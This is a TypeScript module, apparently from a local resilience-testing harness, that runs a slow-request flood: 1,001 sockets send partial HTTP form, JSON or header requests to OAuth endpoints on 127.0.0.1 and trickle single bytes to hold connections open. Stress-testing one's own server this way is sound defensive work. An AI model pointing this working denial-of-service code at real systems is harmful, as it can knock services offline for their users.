import { connect, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import type { Attack } from '../attack.ts';
import { measureUnderFlood } from '../bystanders.ts';
import type { Target } from '../target.ts';

const sockets = 1_001;

/** What each socket sends at first, and the bytes that it sends one by one afterwards. */
const kinds: readonly [name: string, first: (target: Target) => string, byte: string][] = [
  ['a form', () => head('POST', '/api/v1/oauth/token', 'application/x-www-form-urlencoded', 'a'), 'a'],
  ['JSON', () => head('POST', '/api/v1/oauth/register', 'application/json', '{'), ' '],
  ['headers', () => 'POST /api/v1/oauth/token HTTP/1.1\r\nHost: x\r\nX-A: a', 'a'],
  ['no byte at all', () => '', ''],
];

function head(method: string, path: string, type: string, first: string): string {
  return `${method} ${path} HTTP/1.1\r\nHost: x\r\nContent-Type: ${type}\r\nContent-Length: 1000\r\n\r\n${first}`;
}

export const attack: Attack = {
  name: 'a thousand sockets send one byte at a time',
  tries: '1,001 connections of one address, then of many, that leave a form, JSON or headers open and trickle bytes.',
  isFlood: true,
  async run(target, findings) {
    for (const [name, first, byte] of kinds) {
      for (const addresses of [1, 50]) {
        await measureUnderFlood(target, findings.about(`${name} of ${addresses} addresses`), async (over) => {
          const open = Array.from({ length: sockets }, (_, index) =>
            openSocket(target, `127.0.1.${1 + (index % addresses)}`, first(target)),
          );
          while (!over.aborted) {
            await sleep(500);
            for (const socket of open.filter(({ writable }) => writable)) {
              socket.write(byte);
            }
          }
          for (const socket of open) {
            socket.destroy();
          }
        });
      }
    }
  },
};

function openSocket({ port }: Target, localAddress: string, first: string): Socket {
  const socket = connect({ host: '127.0.0.1', port, localAddress }, () => socket.write(first));
  return socket.on('error', () => {}).on('data', () => {});
}
